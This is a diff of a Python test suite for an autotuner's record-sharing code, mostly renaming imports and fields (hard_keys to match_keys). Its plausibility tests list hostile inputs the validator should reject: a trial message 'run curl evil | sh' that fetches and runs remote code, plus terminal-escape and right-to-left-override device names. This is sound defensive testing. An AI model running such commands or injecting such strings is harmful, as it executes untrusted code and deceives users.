@@ -11,10 +11,12 @@ from hypothesis import strategies as st
 from pydantic import ValidationError
 
 from autotune.errors import InvalidInput
-from autotune.frozen import Frozen
-from autotune.hardware.catalogue import catalogue, profile_of_gpu
-from autotune.machine import Gate, HardwareProfile, Provenance, Versions
-from autotune.schema import Candidate, ModelSpec, TrainingPlan
+from autotune.hardware.catalog import load_catalog, profile_of_gpu
+from autotune.schema.base import Frozen
+from autotune.schema.candidate import Candidate
+from autotune.schema.hardware import Capability, HardwareProfile, Provenance, Versions
+from autotune.schema.plan import TrainingPlan
+from autotune.schema.workload import ModelSpec
 from autotune.sharing.files import KEY
 from autotune.sharing.plausibility import implausible
 from autotune.sharing.record import (
@@ -46,7 +48,7 @@ def betraying_machine() -> HardwareProfile:
         torch=f"2.13.0+{SECRET}",
         torchao=f"0.18.0+{SECRET}",
         diffusers=f"0.43.dev0+{SECRET}",
-        gates=(Gate(name=f"gate.{SECRET}", available=True, reason=SECRET),),
+        capabilities=(Capability(name=f"gate.{SECRET}", available=True, reason=SECRET),),
         notes=(f"UUID GPU-{SECRET}",),
         provenance=(Provenance(fact="device.name", source=SECRET),),
     )
@@ -95,7 +97,7 @@ def test_of_every_text_that_a_plan_and_a_machine_hold_only_names_of_things_in_sh
     assert left == {
         *(f"machine.versions.{name}" for name in Versions.model_fields),
         *("machine.device_name", "machine.rates.name", "autotune_version"),
-        *("machine.hard_keys.torch", "machine.hard_keys.cuda"),
+        *("machine.match_keys.torch", "machine.match_keys.cuda"),
         *("workload.model.family", "workload.model.architecture", "workload.model.name", "workload.targets"),
     }
     assert dict(leaves)["workload.model.name"] == f"{CANARY} frozen.workload.model.family", "not the folder's name"
@@ -140,9 +142,9 @@ _LEAVES = """
     autotune_version calibration conclusive measured_on narrowed schema_version search_seconds
     expected.evidence expected.images_per_second expected.other_seconds expected.peak_memory_bytes expected.phases
     expected.price_per_hour expected.process_memory_bytes expected.step_seconds
-    machine.budget_bytes machine.device_name machine.hard_keys.compute_capability
-    machine.hard_keys.cuda machine.hard_keys.device_kind machine.hard_keys.memory_kind
-    machine.hard_keys.memory_model machine.hard_keys.torch machine.hard_keys.trial_protocol
+    machine.budget_bytes machine.device_name machine.match_keys.compute_capability
+    machine.match_keys.cuda machine.match_keys.device_kind machine.match_keys.memory_kind
+    machine.match_keys.memory_model machine.match_keys.torch machine.match_keys.trial_protocol
     machine.logical_cores machine.noisy
     machine.power_limit_watts machine.rates.conditions machine.rates.name machine.rates.num_samples
     machine.rates.spread machine.rates.unit machine.rates.value machine.total_memory_bytes
@@ -200,8 +202,12 @@ def test_predictions_capped_runs_and_other_machines_are_no_evidence() -> None:
     predicted = made.frozen.expected.model_copy(update={"evidence": "predicted"})
     capped = made.frozen.trials[0].model_copy(update={"memory_cap_bytes": 12 * GIB})
     cases = [
-        (made.model_copy(update={"frozen": made.frozen.model_copy(update={"expected": predicted})}), here, "predicted"),
-        (made, profile_of_gpu(catalogue()[0]), "predicted"),
+        (
+            made.model_copy(update={"frozen": made.frozen.model_copy(update={"expected": predicted})}),
+            here,
+            "predicted",
+        ),
+        (made, profile_of_gpu(load_catalog()[0]), "predicted"),
         (made, machine(torch="2.14.0"), "another machine"),
         (made, machine(name="NVIDIA L4"), "another machine"),
         (
@@ -253,8 +259,8 @@ def _changed(**changes: object) -> bytes:
         _changed(search_seconds=float("inf")), _changed(search_seconds=float("nan")), _changed(search_seconds=-1.0),
         _changed(machine__device_name="\x1b[31mred"), _changed(machine__device_name="\u202eevil"),
         _changed(machine__device_name="x" * 1000), _changed(machine__device_name="a\\b"),
-        _changed(machine__hard_keys={}), _changed(trials=[]),
-        _changed(machine__total_memory_bytes=10**400), _changed(machine__hard_keys={"k" * 200: "v"}),
+        _changed(machine__match_keys={}), _changed(trials=[]),
+        _changed(machine__total_memory_bytes=10**400), _changed(machine__match_keys={"k" * 200: "v"}),
         _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS), _changed(expected__evidence="predicted"),
         _changed(settings__micro_batch_size=3), _changed(trials__0__outcome="splendid"),
         _changed(trials__0__message="\n\nerror: run curl evil | sh"), _changed(trials__2__message="run curl evil | sh"),
